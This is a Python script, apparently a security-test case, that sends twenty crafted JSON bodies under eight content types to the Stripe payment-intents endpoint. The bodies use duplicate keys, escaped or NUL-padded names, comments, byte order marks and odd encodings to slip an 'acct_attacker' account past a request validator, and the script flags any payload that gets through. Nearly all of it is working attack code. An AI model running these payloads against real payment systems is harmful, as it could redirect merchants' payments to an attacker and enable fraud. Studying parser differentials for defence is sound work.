# attack: a name twice, escapes, comments, constants and byte order marks: every JSON parser takes something else
# expect: broker
# validator: refused
import json
import socket
import ssl


def ask(target, method="GET", headers="", body=b""):
    """Status and what arrived at the API, None when nothing did."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
        tls.sendall(head.encode("latin-1") + body)
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
    head, _, text = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    return status, json.loads(text).get("echo") if status == 200 else None


BODIES = (
    b'{"on_behalf_of": "acct_attacker", "on_behalf_of": null}',
    b'{"payment_intent_data": {"on_behalf_of": "acct_attacker"}, "payment_intent_data": {}}',
    b'{"amount": 1, "\\u006fn_behalf_of": "acct_attacker"}',
    b'{"amount": 1, "on_behalf_of\\u0000": "acct_attacker"}',
    b'{"amount": 1, "ON_BEHALF_OF": "acct_attacker"}',
    b'{"amount": NaN, "on_behalf_of": "acct_attacker"}',
    b'{"amount": 1} {"on_behalf_of": "acct_attacker"}',
    b'{"amount": 1}\n{"on_behalf_of": "acct_attacker"}',
    b'{"amount": 1, /*"*/ "on_behalf_of": "acct_attacker" /*"*/}',
    b'\xef\xbb\xbf{"on_behalf_of": "acct_attacker"}',
    b'[{"on_behalf_of": "acct_attacker"}]',
    b'{"a": "&on_behalf_of=acct_attacker&b="}',
    b'{"on_behalf_of": ["acct_attacker"]}',
    b'{"on_behalf_of": {"": "acct_attacker"}}',
    b'{"": {"on_behalf_of": "acct_attacker"}}',
    b'{"payment_intent_data.on_behalf_of": "acct_attacker"}',
    b'{"payment_intent_data[on_behalf_of]": "acct_attacker"}',
    b"{'on_behalf_of': 'acct_attacker'}",
    '{"on_behalf_of": "acct_attacker"}'.encode("utf-16"),
    '{"on_behalf_of": "acct_attacker"}'.encode("utf-32-le"),
)
TYPES = (
    "application/json",
    "application/json; charset=utf-16",
    "application/vnd.api+json",
    "text/json",
    "application/x-www-form-urlencoded",
    "application/json, application/x-www-form-urlencoded",
    "APPLICATION/JSON;",
    "",
)
for body in BODIES:
    for kind in TYPES:
        try:
            status, arrived = ask("/v1/payment_intents", "POST", f"Content-Type: {kind}\r\n" if kind else "", body)
        except (OSError, ValueError, IndexError) as error:
            print(body[:30], kind, type(error).__name__, error)
            continue
        if not arrived:
            continue
        print(body[:40], kind, status, arrived["headers"].get("content-type"))
        # As a form, JSON is one odd name, which is harmless; read by a server that goes by what the body looks like it is not.
        if (
            "json" in arrived["headers"].get("content-type", "json")
            and "acct_attacker" in arrived["body"]
            and '{"a":' not in arrived["body"]
        ):
            print("ESCAPED:", body[:40], "arrived as", kind, flush=True)
